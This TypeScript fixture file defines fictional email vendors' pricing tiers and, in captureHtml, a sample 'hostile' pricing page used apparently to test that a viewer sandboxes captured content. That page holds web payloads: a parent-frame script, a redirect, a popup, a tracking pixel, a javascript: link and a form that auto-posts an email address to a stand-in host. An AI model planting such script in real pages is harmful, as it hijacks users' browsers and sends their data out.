import type { Json } from '#/contract/schemas/tolerant.ts';
import { drawPage } from '../draw-page.ts';

/** A vendor whose pricing page the scouts read. */
export interface MailVendor {
  readonly name: string;
  readonly host: string;
  readonly tint: string;
  readonly tiers: readonly (readonly [
    name: string,
    price: number,
    emails: number,
    overage: number,
  ])[];
}

export const MAIL_VENDORS: readonly MailVendor[] = [
  {
    name: 'Northmail',
    host: 'northmail.example',
    tint: '#2f62d8',
    tiers: [
      ['Free', 0, 3_000, 0],
      ['Team', 19, 50_000, 0.9],
      ['Scale', 89, 250_000, 0.55],
    ],
  },
  {
    name: 'Posthorn',
    host: 'posthorn.example',
    tint: '#b5531c',
    tiers: [
      ['Starter', 12, 10_000, 1.1],
      ['Business', 65, 120_000, 0.7],
    ],
  },
  {
    name: 'Relayly',
    host: 'relayly.example',
    tint: '#0e7a5f',
    tiers: [
      ['Hobby', 0, 1_000, 0],
      ['Pro', 25, 60_000, 0.8],
      ['Plus', 79, 200_000, 0.6],
      ['Fleet', 240, 900_000, 0.4],
    ],
  },
  {
    name: 'Sendgrove',
    host: 'sendgrove.example',
    tint: '#7a3fb0',
    tiers: [
      ['Essentials', 15, 40_000, 1],
      ['Premier', 95, 300_000, 0.5],
    ],
  },
];

export const describeTiers = (vendor: MailVendor): Json =>
  vendor.tiers.map(([name, monthlyPrice, emailsPerMonth, overagePerThousand]) => ({
    name,
    monthlyPrice,
    currency: 'USD',
    emailsPerMonth,
    overagePerThousand,
  }));

export const pricingTable = (vendor: MailVendor) =>
  [
    '| Plan | Price | Emails |',
    '|-|-:|-:|',
    ...vendor.tiers.map(([name, price, emails]) => `| ${name} | $${price} | ${emails} |`),
  ].join('\n');

export const drawPricing = (vendor: MailVendor, banner?: string) =>
  drawPage({
    host: vendor.host,
    heading: `${vendor.name} pricing`,
    tint: vendor.tint,
    cards: vendor.tiers.map(([title, price, emails]) => ({
      title,
      price: `$${price}`,
      lines: [
        `${emails.toLocaleString('en')} emails`,
        'Webhooks',
        price > 50 ? 'Dedicated address' : 'Shared addresses',
      ],
    })),
    ...(banner !== undefined && { banner }),
  });

/** A captured page as it came, with what hostile pages try. Viewers must show it and run none of it. */
export const captureHtml = (vendor: MailVendor, isReady: boolean) => `<!doctype html>
<html lang="en"><head><title>${vendor.name} pricing</title>
<script>document.title = 'script ran'; try { parent.document.body.textContent = 'script reached the parent'; } catch {}</script>
<meta http-equiv="refresh" content="1;url=https://elsewhere.example/">
<style>body { font: 16px/1.5 sans-serif; margin: 2rem; } table { border-collapse: collapse } td, th { border: 1px solid #ccc; padding: .3rem .8rem }</style></head>
<body onload="window.open('https://elsewhere.example/')">
<h1>${vendor.name} pricing</h1><p>${isReady ? 'Simple plans, cancel any time.' : 'Loading plans…'}</p>
<table><tr><th>Plan</th><th>Price</th></tr>${(isReady ? vendor.tiers : []).map(([name, price]) => `<tr><td>${name}</td><td>$${price}</td></tr>`).join('')}</table>
<img src="https://elsewhere.example/pixel.png" alt="" onerror="document.title = 'handler ran'">
<form action="https://elsewhere.example/collect" method="post"><input name="email" value="someone@mailbox.example"><button>Subscribe</button></form>
<script>document.forms[0].submit()</script><a href="javascript:document.title='link ran'">More</a>
</body></html>`;
